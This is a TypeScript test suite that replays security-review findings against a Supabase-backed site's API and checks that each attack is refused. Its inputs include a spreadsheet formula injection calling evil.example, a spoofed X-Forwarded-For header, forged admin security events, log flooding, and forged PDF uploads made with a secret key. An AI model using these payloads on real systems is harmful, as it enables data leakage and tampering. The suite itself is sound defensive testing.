// The attacks a security review of the site's API found, replayed over HTTP against the stack as
// the role that tried each one: every one is now refused, or answered so that it learns nothing,
// and nothing is stored.
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { createNodeClient } from "../../../records/node-client";
import { LOCAL_PUBLISHABLE_KEY, LOCAL_SECRET_KEY } from "../../../supabase/local/core/keys";
import { LOCAL_DEMO_SERVICE_ROLE_KEY, seedAccounts } from "../../support/test-stack";
import { useTestStack } from "../../support/use-test-stack";

const env = useTestStack();

/** A request as a browser would send it, with the publishable key and, if given, a session. */
function rest(path: string, init: { body?: unknown; headers?: Record<string, string> } = {}) {
  return fetch(`${env().url}/rest/v1/${path}`, {
    method: "POST",
    headers: {
      apikey: LOCAL_PUBLISHABLE_KEY,
      Authorization: `Bearer ${LOCAL_PUBLISHABLE_KEY}`,
      "Content-Type": "application/json",
      ...init.headers,
    },
    body: JSON.stringify(init.body),
  });
}

async function subscribers(): Promise<{ email: string; source_path: string }[]> {
  const { rows } = await env().db.query<{ email: string; source_path: string }>(
    "select email, source_path from public.newsletter_subscribers order by email",
  );
  return rows;
}

/** What a client can observe of an answer: status, body and headers (but the clock's). */
async function observable(response: Response) {
  const headers = Object.fromEntries(
    [...response.headers].filter(([name]) => !["date", "keep-alive"].includes(name)),
  );
  return { status: response.status, body: await response.text(), headers };
}

describe("the newsletter list is no membership oracle", () => {
  it("anon: a new, a known and a differently cased address get one and the same answer, count=exact included", async () => {
    const before = await subscribers();
    const signUp = (email: string) =>
      rest("rpc/subscribe_to_newsletter", {
        body: { email, source_path: "/" },
        headers: { Prefer: "count=exact" },
      }).then(observable);
    const answers = [
      await signUp("oracle@example.com"),
      await signUp("oracle@example.com"),
      await signUp("ORACLE@Example.com"),
    ];
    expect(answers[0]).toMatchObject({ status: 204, body: "" });
    expect(answers).toEqual([answers[0], answers[0], answers[0]]);
    expect(await subscribers()).toEqual(
      [...before, { email: "oracle@example.com", source_path: "/" }].sort((a, b) =>
        a.email.localeCompare(b.email),
      ),
    );
  });

  it("anon: the insert that answered */0 or */1 is refused, and stores nothing", async () => {
    const before = await subscribers();
    const response = await rest("newsletter_subscribers", {
      body: { email: "someone@example.com", source_path: "/" },
      headers: { Prefer: "count=exact" },
    });
    expect(response.status).toBe(401);
    expect(response.headers.get("content-range")).toBeNull();
    expect(await response.json()).toMatchObject({ code: "42501" });
    expect(await subscribers()).toEqual(before);
  });

  it("visitor: return=representation no longer tells a subscribed address (201 []) from another (403)", async () => {
    const token = await env().accessToken("visitor");
    const before = await subscribers();
    const statuses = [];
    for (const email of ["oracle@example.com", "stranger@example.com"]) {
      const response = await rest("newsletter_subscribers", {
        body: { email, source_path: "/" },
        headers: { Authorization: `Bearer ${token}`, Prefer: "return=representation" },
      });
      statuses.push([response.status, ((await response.json()) as { code: string }).code]);
    }
    expect(statuses).toEqual([
      [403, "42501"],
      [403, "42501"],
    ]);
    expect(await subscribers()).toEqual(before);
  });
});

describe("one request cannot subscribe thousands of addresses or take their locks", () => {
  const addresses = Array.from({ length: 8000 }, (_, index) => ({
    email: `bulk-${index}@example.com`,
    source_path: "/",
  }));

  it("anon: an array of 8,000 addresses is refused by the table and by the RPC; nothing is stored", async () => {
    const before = await subscribers();
    const table = await rest("newsletter_subscribers", { body: addresses });
    expect(table.status).toBe(401);
    expect(await table.json()).toMatchObject({ code: "42501" });
    const rpc = await rest("rpc/subscribe_to_newsletter", { body: addresses });
    expect(rpc.status).toBe(400);
    expect(await subscribers()).toEqual(before);
  });
});

describe("no address that a spreadsheet would run reaches the list", () => {
  it("anon: subscribing =HYPERLINK(...) is refused with the CHECK's 400, and nothing is stored", async () => {
    const before = await subscribers();
    for (const email of ['=HYPERLINK("https://evil.example/?"&A3,"x@y.z")', "+1@example.com"]) {
      const response = await rest("rpc/subscribe_to_newsletter", {
        body: { email, source_path: "/" },
      });
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ code: "23514" });
    }
    expect(await subscribers()).toEqual(before);
  });
});

describe("the secret key does not work from a browser, as on hosted Supabase", () => {
  /** What Chromium sends with a fetch from a page on another site. */
  const browser = {
    "User-Agent":
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    Origin: "https://evil.example",
    "Sec-Fetch-Mode": "cors",
    "Sec-Fetch-Site": "cross-site",
  };
  const secretFromBrowser = { ...browser, apikey: LOCAL_SECRET_KEY };
  /** Hosted Supabase's answer (its gateway's, the same for every service). */
  const forbidden = {
    message: "Forbidden use of secret API key in browser",
    hint: "Secret API keys can only be used in a protected environment and should never be used in a browser. Delete this secret API key immediately!",
  };

  async function expectForbidden(response: Response) {
    expect(response.status).toBe(401);
    expect(response.headers.get("sb-error-code")).toBe("UNAUTHORIZED_INVALID_API_KEY_TYPE");
    expect(await response.json()).toEqual(forbidden);
  }

  async function userCount(): Promise<number> {
    const { rows } = await env().db.query<{ n: number }>(
      "select count(*)::int as n from auth.users",
    );
    return rows[0]!.n;
  }

  it("REST: the subscriber list is refused, with the key as apikey alone or as bearer too", async () => {
    await expectForbidden(
      await fetch(`${env().url}/rest/v1/newsletter_subscribers?select=email`, {
        headers: secretFromBrowser,
      }),
    );
    await expectForbidden(
      await fetch(`${env().url}/rest/v1/newsletter_subscribers?select=email`, {
        headers: { ...secretFromBrowser, Authorization: `Bearer ${LOCAL_SECRET_KEY}` },
      }),
    );
    await expectForbidden(
      await fetch(`${env().url}/rest/v1/user_roles?apikey=${LOCAL_SECRET_KEY}`, {
        headers: browser,
      }),
    );
  });

  it("Auth: the admin user API is refused, listing and creating alike; no user is created", async () => {
    const users = await userCount();
    await expectForbidden(
      await fetch(`${env().url}/auth/v1/admin/users`, { headers: secretFromBrowser }),
    );
    await expectForbidden(
      await fetch(`${env().url}/auth/v1/admin/users`, {
        method: "POST",
        headers: { ...secretFromBrowser, "Content-Type": "application/json" },
        body: JSON.stringify({ email: "intruder@example.com", password: "intruder-password-1" }),
      }),
    );
    expect(await userCount()).toBe(users);
  });

  it("Storage: refused from a browser, and the key as bearer alone (no apikey) is no token anywhere", async () => {
    await expectForbidden(
      await fetch(`${env().url}/storage/v1/object/list/legal-documents`, {
        method: "POST",
        headers: { ...secretFromBrowser, "Content-Type": "application/json" },
        body: JSON.stringify({ prefix: "" }),
      }),
    );
    const bearerOnly = { Authorization: `Bearer ${LOCAL_SECRET_KEY}` };
    const listed = await fetch(`${env().url}/storage/v1/object/list/legal-documents`, {
      method: "POST",
      headers: { ...bearerOnly, "Content-Type": "application/json" },
      body: JSON.stringify({ prefix: "" }),
    });
    expect(listed.status).toBe(400);
    expect(await listed.json()).toEqual({
      statusCode: "403",
      code: "AccessDenied",
      error: "Unauthorized",
      message: "Invalid Compact JWS",
    });
    const name = "form_adv-1767225600999.pdf";
    const uploaded = await fetch(`${env().url}/storage/v1/object/legal-documents/${name}`, {
      method: "POST",
      headers: { ...bearerOnly, "Content-Type": "application/pdf" },
      body: "%PDF-1.4 forged",
    });
    expect(uploaded.status).toBe(400);
    const { rows } = await env().db.query("select 1 from storage.objects where name = $1", [name]);
    expect(rows).toEqual([]);
  });

  it("the legacy service_role JWT is not refused from a browser, as on hosted (it predates the check)", async () => {
    const response = await fetch(`${env().url}/rest/v1/user_roles?select=user_id`, {
      headers: { ...browser, apikey: LOCAL_DEMO_SERVICE_ROLE_KEY },
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toContainEqual({ user_id: seedAccounts.admin.id });
  });

  it("from Node (supabase-js, as npm run create-admin and the tests use it) the secret key still works", async () => {
    const client = createNodeClient(env().url, LOCAL_SECRET_KEY);
    const users = await client.auth.admin.listUsers();
    expect(users.error).toBeNull();
    expect(users.data.users.map((user) => user.email)).toContain(seedAccounts.admin.email);
    const roles = await client.from("user_roles").select("user_id");
    expect(roles.error).toBeNull();
    expect(roles.data).toContainEqual({ user_id: seedAccounts.admin.id });
    const files = await client.storage.from("legal-documents").list("");
    expect(files.error).toBeNull();
    expect(files.data!.length).toBeGreaterThan(0);
  });
});

describe("the security log cannot be forged, flooded or given a chosen address", () => {
  interface StoredEvent {
    action: string;
    severity: string;
    ip_address: string;
  }
  async function eventsOf(account: keyof typeof seedAccounts): Promise<StoredEvent[]> {
    const { rows } = await env().db.query<StoredEvent>(
      "select action, severity, ip_address from public.security_events where user_id = $1 order by created_at, id",
      [seedAccounts[account].id],
    );
    return rows;
  }
  const asVisitor = async (path: string, body: unknown, headers: Record<string, string> = {}) =>
    rest(path, {
      body,
      headers: { Authorization: `Bearer ${await env().accessToken("visitor")}`, ...headers },
    });

  it("visitor: an admin's event or a critical one of its choosing is refused, and nothing is stored", async () => {
    const before = await eventsOf("visitor");
    const granted = await asVisitor("rpc/record_security_event", {
      action: "admin_access_granted",
      details: { path: "/admin" },
    });
    expect(granted.status).toBe(403);
    expect(await granted.json()).toMatchObject({ code: "42501" });
    const inserted = await asVisitor("security_events", {
      action: "admin_access_granted",
      severity: "critical",
    });
    expect(inserted.status).toBe(403);
    expect(await inserted.json()).toMatchObject({ code: "42501" });
    expect(await eventsOf("visitor")).toEqual(before);
  });

  it("visitor: X-Forwarded-For of its choosing, short or pushing the rest out, is not what is stored", async () => {
    const before = (await eventsOf("visitor")).length;
    for (const forwarded of ["6.6.6.6", Array.from({ length: 40 }, () => "6.6.6.6").join(", ")]) {
      const response = await asVisitor(
        "rpc/record_security_event",
        { action: "unauthorized_access", details: { path: "/admin" } },
        { "X-Forwarded-For": forwarded },
      );
      expect(response.status).toBe(204);
    }
    expect((await eventsOf("visitor")).slice(before)).toEqual([
      { action: "unauthorized_access", severity: "critical", ip_address: "127.0.0.1" },
      { action: "unauthorized_access", severity: "critical", ip_address: "127.0.0.1" },
    ]);
  });

  it("visitor: a flood stops at 30 events a minute; the next is refused with 429 and not stored", async () => {
    const token = await env().accessToken("visitor");
    const send = () =>
      rest("rpc/record_security_event", {
        body: { action: "unauthorized_access", details: { note: "x".repeat(4000) } },
        headers: { Authorization: `Bearer ${token}` },
      });
    const statuses: number[] = [];
    for (let index = 0; index < 35; index += 1) statuses.push((await send()).status);
    const refused = await send();
    expect(refused.status).toBe(429);
    expect(await refused.json()).toMatchObject({
      code: "PT429",
      message: "too many unauthorized_access events: at most 30 of one kind a minute per user",
    });
    const { rows } = await env().db.query<{ n: number }>(
      "select count(*)::int as n from public.security_events where user_id = $1 and created_at > now() - interval '1 minute'",
      [seedAccounts.visitor.id],
    );
    expect(rows[0]!.n).toBe(30);
    expect(statuses.filter((status) => status === 429).length).toBeGreaterThan(0);
    expect(statuses.filter((status) => status !== 204 && status !== 429)).toEqual([]);
  });
});

describe("a kept document's file cannot be swapped, not even with the secret key", () => {
  const kept = "form_adv-1767225600000.pdf";
  const forged = () => new Blob(["%PDF-1.4 forged\n%%EOF\n"], { type: "application/pdf" });
  const sha256 = async (blob: Blob) =>
    createHash("sha256")
      .update(Buffer.from(await blob.arrayBuffer()))
      .digest("hex");

  async function documentRow() {
    const { rows } = await env().db.query<{ file_path: string; sha256: string }>(
      "select file_path, sha256 from public.legal_documents where file_path = $1",
      [kept],
    );
    return rows[0];
  }

  it("service role: the four steps all fail, and anon still downloads the file whose hash the document recorded", async () => {
    const service = createNodeClient(env().url, LOCAL_SECRET_KEY);
    const bucket = service.storage.from("legal-documents");
    const recorded = await documentRow();
    expect(recorded?.sha256).toMatch(/^[0-9a-f]{64}$/);

    const renamed = await service
      .from("legal_documents")
      .update({ file_path: "form_adv-1767225600001.pdf" })
      .eq("file_path", kept);
    expect(renamed.error).toMatchObject({ code: "42501" });
    expect((await bucket.remove([kept])).error).not.toBeNull();
    expect((await bucket.upload(kept, forged())).error).not.toBeNull();
    expect((await bucket.upload(kept, forged(), { upsert: true })).error).not.toBeNull();
    const rehashed = await service
      .from("legal_documents")
      .update({ sha256: "0".repeat(64) })
      .eq("file_path", kept);
    expect(rehashed.error).toMatchObject({ code: "42501" });

    expect(await documentRow()).toEqual(recorded);
    const { data, error } = await createNodeClient(env().url, LOCAL_PUBLISHABLE_KEY)
      .storage.from("legal-documents")
      .download(kept);
    expect(error).toBeNull();
    expect(await sha256(data!)).toBe(recorded!.sha256);
  });

  it("service role: no file may be put under the name of a document recorded before its file", async () => {
    const service = createNodeClient(env().url, LOCAL_SECRET_KEY);
    const name = "form_crs-1767225600555.pdf";
    const { error } = await service.from("legal_documents").insert({
      name: "Form CRS (no file yet)",
      document_type: "form_crs",
      file_path: name,
      file_size: 20,
      sha256: "ab".repeat(32),
      material_changes: "Our fees are now 0.21% a year.",
    });
    expect(error).toBeNull();
    for (const upsert of [false, true]) {
      expect(
        (await service.storage.from("legal-documents").upload(name, forged(), { upsert })).error,
      ).not.toBeNull();
    }
    const { rows } = await env().db.query("select 1 from storage.objects where name = $1", [name]);
    expect(rows).toEqual([]);
  });
});

describe("logic trees read as PostgREST reads them", () => {
  const get = (query: string) =>
    fetch(`${env().url}/rest/v1/recommended_resources?select=title&${query}`, {
      headers: { apikey: LOCAL_PUBLISHABLE_KEY },
    });

  it('anon: or=("title".eq.x) filters by the quoted column, as or=(title.eq.x) does', async () => {
    const { rows } = await env().db.query<{ title: string }>(
      "select title from public.recommended_resources where is_featured order by title limit 1",
    );
    const title = rows[0]!.title;
    for (const tree of [`("title".eq."${title}")`, `(title.eq."${title}")`]) {
      const response = await get(`or=${encodeURIComponent(tree)}`);
      expect(response.status).toBe(200);
      expect(await response.json()).toEqual([{ title }]);
    }
  });

  it("anon: or=title.eq.x is a filter on the column ortitle, which does not exist (PostgREST's 42703)", async () => {
    const response = await get("or=title.eq.x");
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({
      code: "42703",
      details: null,
      hint: null,
      message: "column recommended_resources.ortitle does not exist",
    });
  });
});
